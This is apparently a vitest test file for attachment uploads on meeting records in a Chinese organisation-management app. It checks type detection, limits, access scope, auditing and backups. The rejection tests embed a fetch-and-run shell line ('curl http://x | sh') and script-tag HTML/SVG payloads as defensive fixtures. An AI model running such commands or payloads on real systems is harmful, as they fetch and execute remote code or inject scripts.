import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, count, eq } from 'drizzle-orm';
import { buildApp } from '../../src/app.js';
import { DEMO_PASSWORD } from '../../src/auth/demo-users.js';
import { ENGINE, openDb } from '../../src/db/index.js';
import { attachments, auditLog, meetings, orgs, users } from '../../src/db/schema/index.js';
import { backupDatabase, pruneBackups } from '../../src/ops/backup.js';
import { restoreDatabase } from '../../src/ops/restore.js';
import { build, type Client, type TestContext } from '../helpers/build.js';
import { freshDatabase } from '../helpers/db.js';

/** Evidence files on 组织生活 records: type from content, size and count limits, scope, download headers, backups. */
let ctx: TestContext;
let jijiu: Client;
let yanke: Client;
let leader: Client;
let ownMeeting: number;
let foreignMeeting: number;
let filesDir: string;

/** A 1×1 PNG, written out byte by byte (not produced by the code under test). */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(60, 1)]);

beforeAll(async () => {
  ctx = await build();
  filesDir = join(ctx.dir, 'attachments');
  [jijiu, yanke, leader] = [await ctx.as('jijiu'), await ctx.as('yanke'), await ctx.as('leader')];
  const branch = (await ctx.db.select().from(users).where(eq(users.username, 'jijiu')))[0]!.scopeOrgId!;
  ownMeeting = (await ctx.db.select().from(meetings).where(eq(meetings.orgId, branch)))[0]!.id;
  const yankeUnit = (await ctx.db.select().from(users).where(eq(users.username, 'yanke')))[0]!.scopeOrgId!;
  foreignMeeting = (await ctx.db.select({ id: meetings.id }).from(meetings).innerJoin(orgs, eq(orgs.id, meetings.orgId)).where(eq(orgs.unitId, yankeUnit)))[0]!.id;
}, 120_000);
afterAll(() => ctx.close());

const upload = (client: Client, meetingId: number, body: Buffer, name: string, type = 'image/jpeg') =>
  client({ method: 'POST', url: `/api/meetings/${meetingId}/attachments`, payload: body, headers: { 'content-type': type, 'x-file-name': encodeURIComponent(name) } });
const rows = async () => (await ctx.db.select({ n: count() }).from(attachments))[0]!.n;
const files = () => (existsSync(filesDir) ? readdirSync(filesDir).length : 0);
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('attachments on a meeting record', () => {
  it('stores a photo under a random name, lists it with the record and serves it as a download', async () => {
    const res = await upload(jijiu, ownMeeting, PNG, '签到表 12月.png', 'image/png');
    expect(res.statusCode).toBe(201);
    const a = res.json();
    expect(a).toMatchObject({ originalName: '签到表 12月.png', mime: 'image/png', size: PNG.length, sha256: sha(PNG), uploadedBy: 'jijiu' });
    const stored = (await ctx.db.select().from(attachments).where(eq(attachments.id, a.id)))[0]!;
    expect(stored.storedName).toMatch(/^[0-9a-f]{32}$/);
    expect(readFileSync(join(filesDir, stored.storedName)).equals(PNG)).toBe(true);
    const meeting = (await ctx.db.select().from(meetings).where(eq(meetings.id, ownMeeting)))[0]!;
    const listed = (await jijiu(`/api/orgs/${meeting.orgId}/meetings?year=${meeting.date.slice(0, 4)}`)).json();
    expect(listed.find((m: { id: number }) => m.id === ownMeeting).attachments).toEqual([a]);

    const dl = await jijiu(`/api/attachments/${a.id}`);
    expect(dl.statusCode).toBe(200);
    expect(dl.headers['content-type']).toBe('image/png');
    expect(dl.headers['content-disposition']).toBe(`attachment; filename="___ 12_.png"; filename*=UTF-8''${encodeURIComponent('签到表 12月.png')}`);
    expect(dl.headers['x-content-type-options']).toBe('nosniff');
    expect(dl.rawPayload.equals(PNG)).toBe(true);
    // A read-only leader may look at evidence, not remove it.
    expect((await leader(`/api/attachments/${a.id}`)).statusCode).toBe(200);
    expect((await leader({ method: 'DELETE', url: `/api/attachments/${a.id}?version=1` })).statusCode).toBe(403);
    const audit = (await ctx.db.select().from(auditLog).where(and(eq(auditLog.entityType, 'attachment'), eq(auditLog.entityId, String(a.id)))));
    expect(audit.map((e) => [e.username, e.action])).toEqual([['jijiu', 'create']]);
  });

  it('takes a PDF and a JPEG, whatever type the browser claimed', async () => {
    expect((await upload(jijiu, ownMeeting, PDF, '会议记录.pdf', 'application/octet-stream')).json().mime).toBe('application/pdf');
    expect((await upload(jijiu, ownMeeting, JPEG, 'scan', 'application/pdf')).json().mime).toBe('image/jpeg');
  });

  it.each([
    ['a shell script renamed .jpg', Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), 'photo.jpg', 'image/jpeg'],
    ['an HTML page renamed .png', Buffer.from('<html><script>alert(1)</script></html>'), 'sheet.png', 'image/png'],
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'sheet.png', 'image/png'],
    ['a zip (an office file) renamed .pdf', Buffer.from('PK\u0003\u0004rest-of-a-docx'), 'minutes.pdf', 'application/pdf'],
  ])('refuses %s by its content and writes nothing', async (_what, body, name, type) => {
    const [r, f] = [await rows(), files()];
    const res = await upload(jijiu, ownMeeting, body, name, type);
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toContain('按文件内容识别');
    expect(res.json().error.details).toEqual([{ field: 'file', message: '文件类型不支持' }]);
    expect([await rows(), files()]).toEqual([r, f]);
  });

  it('refuses a file over 10 MB with 413, an empty one and a text body, and writes nothing', async () => {
    const [r, f] = [await rows(), files()];
    const big = Buffer.concat([PNG, Buffer.alloc(10 * 1024 * 1024)]);
    const res = await upload(jijiu, ownMeeting, big, 'big.png', 'image/png');
    expect(res.statusCode).toBe(413);
    expect(res.json().error.message).toContain('10 MB');
    expect((await upload(jijiu, ownMeeting, Buffer.alloc(0), 'empty.png', 'image/png')).statusCode).toBe(400);
    expect((await upload(jijiu, ownMeeting, Buffer.from('hello'), 'a.txt', 'text/plain')).statusCode).toBe(400);
    expect([await rows(), files()]).toEqual([r, f]);
  });

  it('refuses another unit\'s secretary: upload, download and delete are 403, and so is a branch secretary on another unit\'s file', async () => {
    const own = (await upload(jijiu, ownMeeting, PNG, 'own.png', 'image/png')).json();
    const [r, f] = [await rows(), files()];
    expect((await upload(yanke, ownMeeting, PNG, 'x.png', 'image/png')).statusCode).toBe(403);
    const dl = await yanke(`/api/attachments/${own.id}`);
    expect(dl.statusCode).toBe(403);
    expect(dl.body).not.toContain('own.png');
    expect((await yanke({ method: 'DELETE', url: `/api/attachments/${own.id}?version=1` })).statusCode).toBe(403);
    expect([await rows(), files()]).toEqual([r, f]);
    const theirs = (await upload(yanke, foreignMeeting, PNG, 'theirs.png', 'image/png')).json();
    expect((await jijiu(`/api/attachments/${theirs.id}`)).statusCode).toBe(403);
  });

  it('is deleted by a writer in scope, audited, with its file', async () => {
    const a = (await upload(jijiu, ownMeeting, PDF, 'delete-me.pdf', 'application/pdf')).json();
    const storedName = (await ctx.db.select().from(attachments).where(eq(attachments.id, a.id)))[0]!.storedName;
    expect((await jijiu({ method: 'DELETE', url: `/api/attachments/${a.id}?version=2` })).statusCode).toBe(409);
    expect((await jijiu({ method: 'DELETE', url: `/api/attachments/${a.id}?version=1` })).statusCode).toBe(204);
    expect(existsSync(join(filesDir, storedName))).toBe(false);
    expect((await jijiu(`/api/attachments/${a.id}`)).statusCode).toBe(404);
    const audit = (await ctx.db.select().from(auditLog).where(and(eq(auditLog.entityType, 'attachment'), eq(auditLog.entityId, String(a.id)))));
    expect(audit.map((e) => e.action)).toEqual(['create', 'delete']);
  });

  it('takes at most 20 files per record', async () => {
    const [own] = await ctx.db.select().from(meetings).where(eq(meetings.id, ownMeeting));
    const meeting = (await ctx.db.select().from(meetings).where(eq(meetings.orgId, own!.orgId)).orderBy(meetings.id)).find((m) => m.id !== ownMeeting)!;
    for (let i = 0; i < 20; i++) expect((await upload(jijiu, meeting.id, JPEG, `p${i}.jpg`)).statusCode).toBe(201);
    const res = await upload(jijiu, meeting.id, JPEG, 'p20.jpg');
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toContain('最多 20 个附件');
    // Deleting the record deletes its files.
    const before = files();
    expect((await jijiu({ method: 'DELETE', url: `/api/meetings/${meeting.id}?version=${meeting.version}` })).statusCode).toBe(204);
    expect(files()).toBe(before - 20);
    expect((await ctx.db.select({ n: count() }).from(attachments).where(eq(attachments.recordId, meeting.id)))[0]!.n).toBe(0);
  });
});

describe('backups carry the files', () => {
  it('a backup restored into a fresh place serves the same attachment again', async () => {
    const a = (await upload(jijiu, ownMeeting, PNG, '备份用签到表.png', 'image/png')).json();
    const backup = await backupDatabase(ctx.db, join(ctx.dir, 'backups'), new Date(Date.UTC(2026, 11, 1, 2, 0, 0)), filesDir);
    expect(readdirSync(`${backup}.attachments`).length).toBe(files());

    // A fresh database of the run's engine (a new file, or a new PostgreSQL database) and a fresh files folder.
    const fresh = await freshDatabase(join(ctx.dir, 'restored'), 'restored');
    const targetFiles = join(ctx.dir, 'restored', 'attachments');
    try {
      const { attachments: restored } = await restoreDatabase(backup, fresh.target, new Date(), targetFiles);
      expect(restored).toEqual({ restored: files(), keptCopy: null });

      const db = await openDb(fresh.target);
      const app = await buildApp({ config: { WEB_DIST: join(ctx.dir, 'no-web'), LOG_LEVEL: 'silent', ATTACHMENTS_DIR: targetFiles }, db, logger: false });
      try {
        const login = await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'jijiu', password: DEMO_PASSWORD } });
        const cookie = login.cookies.find((c) => c.name === 'wj_session')!;
        const dl = await app.inject({ url: `/api/attachments/${a.id}`, headers: { cookie: `${cookie.name}=${cookie.value}` } });
        expect(dl.statusCode).toBe(200);
        expect(sha(dl.rawPayload)).toBe(sha(PNG));
      } finally {
        await app.close();
        await db.close();
      }
    } finally {
      await fresh.drop();
    }
  });

  it('pruning an old backup removes its attachments folder too', async () => {
    const dir = join(ctx.dir, 'prune');
    const old = await backupDatabase(ctx.db, dir, new Date(Date.UTC(2026, 0, 1)), filesDir);
    await backupDatabase(ctx.db, dir, new Date(Date.UTC(2026, 0, 2)), filesDir);
    expect(pruneBackups(dir, 1)).toEqual([old.slice(dir.length + 1)]);
    expect(existsSync(`${old}.attachments`)).toBe(false);
    // SQLite backups are database files, PostgreSQL's pg_dump archives.
    const kept = `wj-backup-20260102T000000Z${ENGINE === 'postgres' ? '.dump' : '.sqlite'}`;
    expect(readdirSync(dir).sort()).toEqual([kept, `${kept}.attachments`]);
  });
});
